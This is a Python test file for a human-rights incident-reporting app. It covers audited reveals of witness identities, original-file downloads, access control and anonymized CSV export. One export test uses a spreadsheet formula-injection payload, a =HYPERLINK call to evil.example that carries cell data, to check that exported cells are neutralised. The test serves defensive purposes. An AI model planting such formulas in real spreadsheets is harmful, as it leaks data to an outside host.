"""Revealing originals (audited, with a reason), downloading original files, and anonymized CSV exports."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import h3
from sqlalchemy import select

from intake.enums import Role
from intake.extensions import db
from intake.media import store_upload
from intake.models import AuditEntry, Report
from tests.conftest import csrf_token, jpeg_bytes, make_org, make_user
from tests.test_verify import signed_in, triaged_report

WITNESS = "Lusine Karapetyan"
PHONE = "+374 93 556677"
NARRATIVE = "Lusine Karapetyan saw the second drone come back eleven minutes later while people helped the wounded."
REASON = "Calling the witness back about the time of the second strike"


def witness_report(app: Any, reporter: Any, **overrides: Any) -> Report:
    return triaged_report(app, reporter, narrative=NARRATIVE, witnesses=[
        {"name": WITNESS, "phone": PHONE, "relation": "nurse", "may_contact": True}], **overrides)


def audit_entries(action: str) -> list[AuditEntry]:
    db.session.remove()
    entries = list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == action)))
    db.session.remove()
    return entries


def reveal(browser: Any, report: Report, what: str, reason: str) -> Any:
    page = browser.get(f"/queue/reports/{report.public_id}").get_data(as_text=True)
    return browser.post(f"/queue/reports/{report.public_id}/reveal", data={
        "reveal-csrf_token": csrf_token(page), "reveal-what": what, "reveal-reason": reason})


def test_identities_show_only_after_a_reason_and_the_audit_log_says_who_why_and_what(
    app: Any, reporter: Any, verifier: Any
) -> None:
    report = witness_report(app, reporter)
    browser = signed_in(app, verifier)
    page = browser.get(f"/queue/reports/{report.public_id}").get_data(as_text=True)
    assert WITNESS not in page and PHONE not in page and NARRATIVE not in page
    assert "saw the second drone come back eleven minutes later" in page, "the anonymized account is shown"
    assert "Reveal originals" in page

    shown = reveal(browser, report, "identities", REASON)
    assert shown.status_code == 200
    html = shown.get_data(as_text=True)
    assert WITNESS in html and PHONE in html and "Anahit Petrosyan" in html
    assert NARRATIVE not in html, "only the group asked for is shown"
    (entry,) = audit_entries("report.revealed")
    assert entry.target_id == report.public_id and entry.actor_id == verifier.public_id
    assert entry.detail == {"fields": "identities", "reason": REASON}
    # Shown once: the next plain view withholds them again.
    assert WITNESS not in browser.get(f"/queue/reports/{report.public_id}").get_data(as_text=True)

    account = reveal(browser, report, "account", REASON).get_data(as_text=True)
    assert NARRATIVE in account and PHONE not in account
    location = reveal(browser, report, "location", REASON).get_data(as_text=True)
    assert "39.505700, 46.436200" in location
    assert len(audit_entries("report.revealed")) == 3


def test_no_reason_no_reveal_and_what_was_typed_stays(app: Any, reporter: Any, verifier: Any) -> None:
    report = witness_report(app, reporter)
    browser = signed_in(app, verifier)
    refused = reveal(browser, report, "identities", "because")
    assert refused.status_code == 422
    html = refused.get_data(as_text=True)
    assert WITNESS not in html and "because" in html and "between 10 and 500 characters" in html
    assert audit_entries("report.revealed") == []


def test_nobody_outside_the_organisation_or_below_verifier_can_reveal(app: Any, org: Any, reporter: Any) -> None:
    report = witness_report(app, reporter)
    outsider = signed_in(app, make_user(make_org("Other NGO"), Role.VERIFIER))
    page = outsider.get("/queue/").get_data(as_text=True)
    token = csrf_token(page)
    response = outsider.post(f"/queue/reports/{report.public_id}/reveal",
                             data={"reveal-csrf_token": token, "reveal-what": "identities", "reveal-reason": REASON})
    assert response.status_code == 404
    fellow_reporter = signed_in(app, make_user(org, Role.REPORTER))
    token = csrf_token(fellow_reporter.get("/reports/new").get_data(as_text=True))
    response = fellow_reporter.post(f"/queue/reports/{report.public_id}/reveal",
                                    data={"reveal-csrf_token": token, "reveal-what": "identities",
                                          "reveal-reason": REASON})
    assert response.status_code == 404
    assert audit_entries("report.revealed") == []


def test_an_original_file_downloads_as_an_attachment_after_a_reason(app: Any, reporter: Any, verifier: Any) -> None:
    report = witness_report(app, reporter)
    content = jpeg_bytes((200, 120))
    with app.app_context():
        attachment, _ = store_upload(db.session, app.config, io.BytesIO(content), "IMG_0042.jpg", reporter,
                                     report=db.session.get(Report, report.id))
        db.session.commit()
        file_id = attachment.public_id
    browser = signed_in(app, verifier)
    page = browser.get(f"/queue/reports/{report.public_id}").get_data(as_text=True)
    assert "IMG_0042" not in page
    url = f"/queue/reports/{report.public_id}/files/{file_id}/original"
    refused = browser.post(url, data={"csrf_token": csrf_token(page), "reason": "x"})
    assert refused.status_code == 422 and audit_entries("report.original_downloaded") == []

    response = browser.post(url, data={"csrf_token": csrf_token(page), "reason": REASON})
    assert response.status_code == 200
    assert response.data == content
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(r'attachment; filename="original-[0-9a-f]{12}\.jpeg"', response.headers["Content-Disposition"])
    (entry,) = audit_entries("report.original_downloaded")
    assert entry.target_id == file_id and entry.detail["reason"] == REASON
    # Another organisation's verifier gets 404 for the same file.
    outsider = signed_in(app, make_user(make_org("Other NGO"), Role.VERIFIER))
    token = csrf_token(outsider.get("/queue/").get_data(as_text=True))
    assert outsider.post(url, data={"csrf_token": token, "reason": REASON}).status_code == 404


def export_rows(browser: Any, state: str = "verified") -> tuple[Any, list[dict[str, str]]]:
    response = browser.get(f"/queue/export.csv?state={state}")
    return response, list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_export_is_anonymized_neutralised_and_audited(app: Any, org: Any, reporter: Any) -> None:
    """A coordinator's CSV holds publishable fields only, leaves out high-risk and internal-only
    reports, and no cell can run as a formula in a spreadsheet."""
    coordinator = make_user(org, Role.COORDINATOR)
    shared = witness_report(app, reporter, markings='=HYPERLINK("http://evil.example/?x="&A1,"open")',
                            platform_model="@SUM(1+1)", locality="-2+3", munition_model="+MAM-L")
    witness_report(app, reporter, risk_to_source="high", locality="Hidden-high-risk")
    witness_report(app, reporter, consent="internal_only", locality="Hidden-internal")
    browser = signed_in(app, coordinator)
    response, rows = export_rows(browser, "triage")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == 'attachment; filename="reports-triage.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert [row["report_id"] for row in rows] == [shared.public_id]
    (row,) = rows
    assert row["markings"].startswith("'=HYPERLINK(")
    assert row["platform_model"] == "'@SUM(1+1)" and row["locality"] == "'-2+3" and row["munition_model"] == "'+MAM-L"
    assert row["killed_men"] == "1" and row["admin2"] == "Goris"
    text = response.get_data(as_text=True)
    for withheld in (WITNESS, PHONE, NARRATIVE, "Petrosyan", "39.5057", "t.me"):
        assert withheld not in text
    # The only coordinates are the centre of the coarse cell, never the reported point.
    assert "narrative" not in rows[0]
    centre = h3.cell_to_latlng(row["location_cell"])
    assert (float(row["latitude"]), float(row["longitude"])) == (round(centre[0], 5), round(centre[1], 5))
    (entry,) = audit_entries("export.csv")
    assert entry.actor_id == coordinator.public_id
    assert entry.detail == {"format": "csv", "of": "reports", "tier": "partner", "state": "triage", "rows": 1,
                            "via": "web"}


def test_only_coordinators_export(app: Any, org: Any, reporter: Any, verifier: Any) -> None:
    witness_report(app, reporter)
    assert signed_in(app, verifier).get("/queue/export.csv?state=triage").status_code == 404
    assert signed_in(app, make_user(org, Role.REPORTER)).get("/queue/export.csv").status_code == 404
    outsider = signed_in(app, make_user(make_org("Other NGO"), Role.COORDINATOR))
    response, rows = export_rows(outsider, "triage")
    assert response.status_code == 200 and rows == []
    bad = signed_in(app, make_user(org, Role.COORDINATOR)).get("/queue/export.csv?state=nonsense")
    assert bad.status_code == 400


def test_an_erased_report_has_nothing_to_reveal(app: Any, reporter: Any, verifier: Any) -> None:
    """After retention erased its originals, the page says so and a reveal answers 410 Gone, unaudited."""
    from intake.keys import erase_report

    report = witness_report(app, reporter)
    with app.app_context():
        erase_report(db.session, app.config, db.session.get(Report, report.id))
        db.session.commit()
    browser = signed_in(app, verifier)
    page = browser.get(f"/queue/reports/{report.public_id}").get_data(as_text=True)
    assert "were erased under the retention rules" in page and "Reveal originals" not in page
    token = csrf_token(page)
    response = browser.post(f"/queue/reports/{report.public_id}/reveal",
                            data={"reveal-csrf_token": token, "reveal-what": "identities", "reveal-reason": REASON})
    assert response.status_code == 410 and WITNESS not in response.get_data(as_text=True)
    assert audit_entries("report.revealed") == []
